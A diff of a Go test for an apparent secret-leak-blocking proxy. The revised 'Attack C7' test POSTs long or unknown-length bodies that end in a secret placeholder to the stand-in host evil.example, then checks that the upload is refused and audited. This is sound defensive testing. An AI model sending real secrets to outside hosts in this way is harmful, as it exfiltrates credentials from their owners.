@@ -628,7 +628,9 @@ type single struct{ r *strings.Reader }
 
 func (s *single) Read(p []byte) (int, error) { return s.r.Read(p[:min(1, len(p))]) }
 
-// Attack C7: an end of a body that arrives would be taken for a whole upload.
+// Attack C7: a secret at the end of a body that is not held as a whole, because it is long
+// or its length is not known. An end of the body that arrives would be taken for a whole
+// upload.
 func TestAttackC7_ALeakInALongBodyBreaksTheUpload(t *testing.T) {
 	ended := make(chan error, 1)
 	up := newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
@@ -636,13 +638,15 @@ func TestAttackC7_ALeakInALongBodyBreaksTheUpload(t *testing.T) {
 		ended <- err
 	})
 	l := newLab(t, up.route("evil.example", nil))
-	body := strings.Repeat("x", 3<<20) + placeholder
-	response, said := get(t, l.client(t, true), request(t, "POST", "https://evil.example/", strings.NewReader(body)))
-	if response.StatusCode != 403 {
-		t.Errorf("got %s %s", response.Status, said)
-	}
-	if err := <-ended; err == nil {
-		t.Error("the upstream saw a whole body")
+	long := strings.Repeat("x", maxWhole) + placeholder
+	for name, body := range map[string]io.Reader{"long": strings.NewReader(long), "of no known length": io.MultiReader(strings.NewReader(long[maxWhole/2:]))} {
+		response, said := get(t, l.client(t, true), request(t, "POST", "https://evil.example/", body))
+		if response.StatusCode != 403 {
+			t.Errorf("%s: got %s %s", name, response.Status, said)
+		}
+		if err := <-ended; err == nil {
+			t.Errorf("%s: the upstream saw a whole body", name)
+		}
 	}
 	l.awaitEvent(t, "the leak", func(e audit.Event) bool { return e.Decision == audit.Deny && strings.Contains(e.Reason, "KEY") })
 }
